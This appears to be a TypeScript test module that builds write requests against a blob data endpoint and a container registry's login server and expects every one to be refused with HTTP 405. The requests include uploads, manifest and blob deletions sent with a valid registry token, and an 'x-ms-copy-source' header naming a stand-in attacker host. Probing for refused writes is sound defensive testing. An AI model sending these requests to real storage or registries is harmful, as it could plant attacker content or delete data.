import { type Attack, requestBytes } from './attack.ts';
import type { Facts } from './facts.ts';

const NOT_FOR_READING = ['PUT', 'POST', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'COPY', 'MERGE', 'PROPFIND'];

/** Everything but GET and HEAD at the data endpoint, with a link that is good for reading. */
export function dataEndpointWrites({ data, ticket, loot, drop, attacker }: Facts): Attack[] {
  const targets = [ticket, drop, '/', `${ticket}&comp=block&blockid=AAAA`];
  const fields = [
    'x-ms-blob-type: BlockBlob',
    'x-ms-version: 2021-12-02',
    `x-ms-copy-source: https://${attacker.host}${drop}`,
  ];
  return targets.flatMap((target, index) =>
    NOT_FOR_READING.map((method) => ({
      what: `data endpoint: ${method} (${index})`,
      to: data,
      bytes: requestBytes(`${method} ${target}`, data, fields, loot),
      wanted: [405],
    })),
  );
}

/** Every request of the distribution-spec that writes, with a token that the registry itself would honour. */
export function loginServerWrites(facts: Facts): Attack[] {
  const { login, repository, digest, authorization, loot, drop, attacker } = facts;
  const base = `/v2/${repository}`;
  const uploads = `${base}/blobs/uploads/`;
  const lines = [
    `POST ${uploads}`,
    `POST ${uploads}?digest=${digest}`,
    `POST ${uploads}?mount=${digest}&from=library/app`,
    `PATCH ${uploads}loot`,
    `PUT ${uploads}loot?digest=${digest}`,
    `GET ${uploads}loot`,
    `DELETE ${uploads}loot`,
    `PUT ${base}/manifests/loot`,
    `DELETE ${base}/manifests/1`,
    `DELETE ${base}/blobs/${digest}`,
    `PUT ${base}/blobs/${digest}`,
    'PUT /v2/_catalog',
    'DELETE /v2/',
    'COPY /v2/',
  ];
  const fields = [`Authorization: ${authorization}`, `x-ms-copy-source: https://${attacker.host}${drop}`];
  return lines.map((line) => ({
    what: `login server: ${line}`,
    to: login,
    bytes: requestBytes(line, login, fields, loot),
    wanted: [405],
  }));
}
